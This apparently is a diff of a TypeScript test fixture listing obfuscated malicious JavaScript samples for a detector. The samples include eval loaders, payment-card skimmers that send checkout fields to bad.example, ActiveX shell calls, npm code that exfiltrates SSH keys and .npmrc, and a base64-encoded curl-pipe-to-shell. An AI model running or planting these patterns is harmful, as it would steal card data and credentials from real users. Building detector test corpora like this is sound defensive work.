@@ -10,7 +10,6 @@ const every = (text: string, step: number) => [...text].map((char) => char.padEn
 
 /** What is hidden in most of these: it does nothing. */
 const TASK = 'document.location="about:blank";var a=1;';
-const HOST = 'https://bad.example/s.js';
 const ALL_FIELDS = `document.querySelectorAll('input, select, textarea')`;
 
 /** Scripts by what they show, built from harmless pieces. */
@@ -21,31 +20,22 @@ export const MALICIOUS_SCRIPTS: Named = {
   'fromCharCode by a bracket': `var n=[${codes(TASK)}],o='';for(var i in n)o+=String['from'+'CharCode'](n[i]);window['ev'+'al'](o);`,
   'every third character': `var s='${every(TASK, 3).replaceAll('"', '')}',o='';for(var i=0;i<s.length;i+=3){o+=s.charAt(i);}eval(o);`,
   'a text turned round': `eval('${turned(TASK.replaceAll('"', '\\"')).replaceAll('\\', '')}'.split('').reverse().join(''));`,
-  'signs taken out': `var t='do#cum#ent.wri#te(1);win#dow.a=1';setTimeout(t.replace(/#/g,''),10);`,
   'a chain of replacements': `var t='QvalZ7x.yZ'.replace('Q','e').split('Z').join('(');var k=t.replace(/7/g,'"');new Function(k)();`,
   'a shift of codes with a name for eval': `var e=eval,s='${shifted(TASK).replace(/[^a-z]/g, '')}',o='';for(var i=0;i<s.length;i++)o+=String.fromCharCode(s.charCodeAt(i)-3);e(o);`,
   'a decoder written into the page': `function u(a){var r='';for(var i=0;i<a.length;i++)r+=String.fromCharCode(a[i]^33);return r;}document.write(u([${codes('<script src=x>')}]));`,
   'the text of a script element': `var o='';for(var i=0;i<c.length;i++)o+=String.fromCharCode(c[i]-7);var s=document.createElement('script');s.text=o;document.head.appendChild(s);`,
   'the constructor of a function': `[]['filter']['constructor'](atob('${base64(TASK)}'))();`,
-  'a constructor of a constructor': `''['constructor']['constructor'](p.d)();`,
-  'eval under a name of two texts': `var a='ev',b='al';globalThis[a+b](name);`,
   'an answer that is run': `fetch('https://bad.example/a').then(r=>r.text()).then(t=>eval(t));`,
-  'an answer that is run by name': `fetch('https://bad.example/a').then(function(r){return r.text()}).then(eval);`,
   'a request whose answer is run': `var x=new XMLHttpRequest();x.open('GET','https://bad.example/a.txt',true);x.onload=function(){(new Function(x.responseText))();};x.send();`,
   'a script from a hidden host on checkout pages': `if(/onepage|checkout/.test(location.href)){var s=document.createElement('script');s.src='https://'+atob('${base64('bad.example/a.js')}');document.head.appendChild(s);}`,
-  'a script of another host on checkout pages': `(function(){if(location.pathname.indexOf(atob('${base64('checkout')}'))>-1){var a=document.createElement('script');a.async=1;a.src='//bad.example/gtm.js';document.head.appendChild(a);}})();`,
-  'a loader that looks like a tag manager': `(function(w,d,s,l,i){var j=d.createElement(s);j.async=true;j.src=atob(i)+'?id='+l;d.head.appendChild(j);})(window,document,'script','GTM-ABC','${base64(HOST)}');`,
-  'a host turned round': `var s=document.createElement('script');s.src='${turned(HOST)}'.split('').reverse().join('');document.body.appendChild(s);`,
   'fields of a payment by an image': `setInterval(function(){if(location.href.indexOf('checkout')<0)return;var d='';var f=${ALL_FIELDS};for(var i=0;i<f.length;i++)d+=f[i].name+'='+f[i].value+'&';new Image().src='https://bad.example/i.gif?x='+encodeURIComponent(d);},900);`,
   'fields of a form by a beacon': `document.querySelector('#place_order').addEventListener('click',function(){var o={};${ALL_FIELDS}.forEach(function(e){o[e.id]=e.value});navigator.sendBeacon('https://bad.example/b',JSON.stringify(o));});`,
   'fields hoarded until they are sent': `jQuery(function($){$('form').on('change','input',function(){localStorage.setItem('_ga9',btoa(JSON.stringify($('form.checkout').serializeArray())));});if(localStorage.getItem('_ga9')){$.post('https://bad.example/p',{d:localStorage.getItem('_ga9')});}});`,
   'card fields over a socket': `var w=new WebSocket('wss://bad.example/s');document.addEventListener('blur',function(){var n=document.querySelector('[name="payment[cc_number]"]').value;w.send(btoa(n+'|'+document.querySelector('[name="payment[cc_cid]"]').value));},true);`,
-  'the action of a payment form': `var f=document.querySelector('form#payment-form');f.action='https://bad.example/take.php';f.querySelector('[name=card_number]');`,
   'objects of Windows by a variable': `var n=['WScr'+'ipt.Shell','MSX'+'ML2.XMLHTTP'];var s=new ActiveXObject(n[0]);s.Run(c);`,
   'objects of Windows from a list': `var x=['WScript.Shell','Run','cmd.exe /c calc'];new ActiveXObject(x[0])[x[1]](x[2],0);`,
   'a script host by a bracket': `var k='Create';WScript[k+'Object']('WScript.Shell')['Run'](a);`,
   'strings of an obfuscator with ordinary names': `function words(){var k=['log','12AbCd','warn'];words=function(){return k;};return words();}(function(a,b){var q=read,l=a();while(!![]){try{var v=parseInt(q(1))/1+-parseInt(q(2))/2*(parseInt(q(3))/3);if(v===b)break;else l['push'](l['shift']());}catch(e){l['push'](l['shift']());}}}(words,12345));function read(a,b){var w=words();return read=function(c,d){c=c-1;return w[c];},read(a,b);}`,
-  'search visitors to a decoded address': `if(document.referrer.indexOf('google')>-1){var u='';for(var i=0;i<c.length;i++)u+=String.fromCharCode(c[i]^3);window.location=u;}`,
   'npm: keys and the environment': `const fs=require('fs'),os=require('os'),https=require('https');const d={k:fs.readFileSync(os.homedir()+'/.ssh/id_rsa','utf8'),n:fs.readFileSync(os.homedir()+'/.npmrc','utf8')};const r=https.request({hostname:'bad.example',method:'POST'});r.write(JSON.stringify(d));r.end();`,
   'npm: a command in base64': `const{exec}=require('child_process');exec(Buffer.from('${base64('curl http://bad.example/i | sh')}','base64').toString());`,
   'npm: code in base64': `eval(Buffer.from('${base64(TASK)}','base64').toString('utf8'));`,
